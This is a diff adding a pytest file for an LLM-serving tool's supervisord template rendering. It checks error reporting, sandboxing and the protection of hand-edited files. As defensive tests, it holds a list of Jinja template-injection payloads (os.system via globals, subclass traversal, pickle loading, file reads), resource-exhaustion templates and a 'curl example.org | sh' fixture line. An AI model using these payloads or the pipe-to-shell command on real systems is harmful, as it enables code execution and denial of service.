@@ -1,0 +1,211 @@
+"""Templates: what supervisord reads from them, what is wrong with one, and what a hand has edited."""
+
+from __future__ import annotations
+
+import configparser
+import shlex
+import shutil
+from pathlib import Path
+
+import psutil
+import pytest
+from supervisor.options import ServerOptions
+
+from llm_serving.fleet.model import Fleet
+from llm_serving.kinds.serving import resolve
+from llm_serving.kinds.serving.blueprint import Blueprint
+from llm_serving.kinds.serving.deployment import ServingDeployment
+from llm_serving.services.environment import Environment, Process
+from llm_serving.settings.document import load
+from llm_serving.settings.errors import InputError
+from llm_serving.targets import render, template_sandbox
+from llm_serving.targets.local.conventions import CONVENTIONS
+
+ROOT = Path(__file__).parents[2]
+PATTERN = ROOT / "blueprints" / "aggregated"
+NAMES = ("aws", "worker-0", "worker-1", "router", "router-metrics", "router-admin")
+
+
+def _resolve_deployment(data: Path) -> ServingDeployment:
+    aws = Process(name="aws", command=("moto", "100%"), env={}, port=20000, stateful=True)
+    environment = Environment(
+        target="local",
+        conventions=CONVENTIONS,
+        region="us-west-2",
+        bucket="demo-models",
+        s3_endpoint="http://127.0.0.1:20000",
+        env={"AWS_REGION": "us-west-2", "ODD": "50%, 'half' = 1/2"},
+        engine_folder="/engine/bin",
+        data_folder=str(data),
+        socket_folder=str(data),
+        launcher=("python", "keep.py"),
+        services=(aws,),
+        ports={name: 20000 + number for number, name in enumerate(NAMES)},
+        cores=2,
+    )
+    return resolve.resolve(load(PATTERN / "blueprint.yaml", Blueprint), load(ROOT / "fleet.yaml", Fleet), environment)
+
+
+def _copy_with_template(tmp_path: Path, template: str, name: str = "local.conf.j2") -> Path:
+    folder = tmp_path / "mine"
+    folder.mkdir(exist_ok=True)
+    (folder / name).write_text(template)
+    return folder
+
+
+def test_supervisord_parses_every_process_as_resolved(tmp_path: Path) -> None:
+    deployment = _resolve_deployment(tmp_path)
+    (tmp_path / "logs").mkdir()
+    file = render.render(deployment, PATTERN, tmp_path / "rendered")
+    options = ServerOptions()
+    options.realize(["--configuration", str(file), "--nodaemon"])
+    programs = {group.name: group.process_configs[0] for group in options.process_group_configs}
+    assert list(programs) == ["aws", "worker-0", "worker-1", "router"], "in the order of starting"
+    for process in deployment.processes:
+        program = programs[process.name]
+        assert tuple(shlex.split(program.command)) == ("python", "keep.py", *process.command)
+        assert program.environment == process.env
+        assert program.stdout_logfile == str(tmp_path / "logs" / f"{process.name}.log")
+        assert not program.autostart
+        assert bool(program.autorestart) == (process.name != "aws")
+        assert program.startretries == (0 if process.name == "aws" else 3)
+    assert [server["file"] for server in options.server_configs] == [str(tmp_path / "supervisor.sock")]
+
+
+def test_only_the_user_can_open_supervisords_socket(tmp_path: Path) -> None:
+    parser = configparser.RawConfigParser()
+    parser.read_string(render.render_text(_resolve_deployment(tmp_path), PATTERN / "local.conf.j2"))
+    assert parser["unix_http_server"]["chmod"] == "0700"
+    assert "inet_http_server" not in parser
+
+
+@pytest.mark.parametrize(
+    ("template", "line", "reason"),
+    [
+        ("a\nb {{ deployment.nmae }}\n", 2, "Deployment object' has no attribute 'nmae'"),
+        ("a\n{{ deplyoment.name }}\n", 2, "'deplyoment' is undefined"),
+        ("a\n\n{% for x in deployment.processes %}\n", 3, "Unexpected end of template"),
+        ("{{ deployment.name | nofilter }}\n", 1, "No filter named 'nofilter'"),
+        ("a\n{{ 1 / 0 }}\n", 2, "division by zero"),
+        ('a\n{% include "b.j2" %}\n', 2, "there is no template b.j2"),
+        ('a\nb\n{{ "x ;y" | ini_value }}\n', 3, "'x ;y' is not possible in supervisord's configuration"),
+    ],
+)
+def test_an_invalid_template_is_reported_with_file_and_line(
+    tmp_path: Path, template: str, line: int, reason: str
+) -> None:
+    folder = _copy_with_template(tmp_path, template)
+    with pytest.raises(InputError) as error:
+        render.render(_resolve_deployment(tmp_path), folder, tmp_path / "out")
+    assert str(error.value).startswith(f"{folder / 'local.conf.j2'}:{line}:1: ")
+    assert reason in str(error.value)
+    assert not (tmp_path / "out").exists()
+
+
+HOSTILE = (
+    "{{ cycler.__init__.__globals__.os.system('touch MARK') }}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ deployment.__class__.__init__.__globals__ }}",
+    "{{ deployment.model_dump() }}",
+    "{{ deployment.parse_raw('x', proto='pickle', allow_pickle=True) }}",
+    "{{ deployment.parse_file('/etc/hostname') }}",
+    "{{ (deployment | attr('__class__')) }}",
+    "{{ '{0.__class__}'.format(deployment) }}",
+    "{{ [].append(1) }}",
+    "{% for n in range(10000000) %}x{% endfor %}",
+)
+
+
+@pytest.mark.parametrize("template", HOSTILE)
+def test_a_template_reaches_nothing_of_python(tmp_path: Path, template: str) -> None:
+    mark = tmp_path / "mark"
+    folder = _copy_with_template(tmp_path, "a\n" + template.replace("MARK", str(mark)))
+    with pytest.raises(InputError) as error:
+        render.render_text(_resolve_deployment(tmp_path), folder / "local.conf.j2")
+    assert str(error.value).startswith(f"{folder / 'local.conf.j2'}:2:1: ")
+    assert "unsafe" in str(error.value) or "Range too big" in str(error.value)
+    assert not mark.exists()
+
+
+@pytest.mark.parametrize(
+    ("template", "reason"),
+    [
+        (
+            "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
+            "does not finish within 1 s",
+        ),
+        ("{{ 9 ** 99999999 }}", "does not finish within 1 s"),
+        ("{{ lipsum(n=99999) }}", "does not finish within 1 s"),
+        ("{{ 'x' * 9999999999 }}", "needs more than 1024 MiB of memory"),
+        ("{% for a in range(99999) %}{{ 'x' * 9999 }}{% endfor %}", "writes more than 16 MiB"),
+    ],
+)
+def test_a_template_that_needs_too_much_is_ended(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, template: str, reason: str
+) -> None:
+    monkeypatch.setattr(template_sandbox, "TIME_LIMIT_S", 1.0)
+    folder, children = _copy_with_template(tmp_path, template), psutil.Process().children()
+    with pytest.raises(InputError) as error:
+        render.render_text(_resolve_deployment(tmp_path), folder / "local.conf.j2")
+    assert str(error.value).startswith(f"{folder / 'local.conf.j2'}:1:1: it {reason}")
+    assert psutil.Process().children() == children
+
+
+def test_only_templates_that_are_not_of_this_repository_are_pointed_out(tmp_path: Path) -> None:
+    folder = tmp_path / "mine"
+    shutil.copytree(PATTERN, folder)
+    assert render.find_own_templates(folder, "local") == []
+    (folder / "templates").mkdir()
+    (folder / "templates" / "local.conf.j2").write_text("[program:x]\ncommand = curl example.org | sh\n")
+    assert render.find_own_templates(folder, "local") == [folder / "templates" / "local.conf.j2"]
+    (folder / "local.conf.j2").write_text("[program:x]\n")
+    assert render.find_own_templates(folder, "local") == [
+        folder / "local.conf.j2",
+        folder / "templates" / "local.conf.j2",
+    ]
+
+
+def test_a_target_without_a_template_is_refused_in_one_line(tmp_path: Path) -> None:
+    folder = _copy_with_template(tmp_path, "x")
+    with pytest.raises(InputError) as error:
+        render.find_template(folder, "eks")
+    assert str(error.value) == f"{folder}: no template for the target eks (eks.*.j2); it has one for local."
+
+
+def test_two_templates_for_one_target_are_refused(tmp_path: Path) -> None:
+    folder = _copy_with_template(tmp_path, "x")
+    _copy_with_template(tmp_path, "x", "local.yaml.j2")
+    with pytest.raises(InputError, match="are both templates for the target local"):
+        render.find_template(folder, "local")
+
+
+def test_an_edited_file_is_overwritten_only_on_request(tmp_path: Path) -> None:
+    folder, out, deployment = _copy_with_template(tmp_path, "one\n"), tmp_path / "out", _resolve_deployment(tmp_path)
+    file = render.render(deployment, folder, out)
+    assert file == out / "local.conf"
+    _copy_with_template(tmp_path, "two\n")
+    render.render(deployment, folder, out)
+    assert file.read_text() == "two\n", "its own output may be replaced"
+    file.write_text("mine\n")
+    with pytest.raises(InputError) as error:
+        render.render(deployment, folder, out)
+    assert str(error.value) == (
+        f"{file}: edited by hand since it was rendered, and would be overwritten. "
+        f"Fix: make the change in {folder / 'local.conf.j2'}, or pass --force."
+    )
+    assert file.read_text() == "mine\n"
+    render.render(deployment, folder, out, force=True)
+    assert file.read_text() == "two\n"
+
+
+def test_a_file_of_the_user_is_not_overwritten(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "local.conf").write_text("somebody's\n")
+    with pytest.raises(InputError, match="edited by hand since"):
+        render.render(_resolve_deployment(tmp_path), _copy_with_template(tmp_path, "one\n"), out)
+
+
+def test_a_quote_in_an_environment_is_refused() -> None:
+    with pytest.raises(ValueError, match="no quote or backslash"):
+        render.format_ini_env({"A": 'say "x"'})
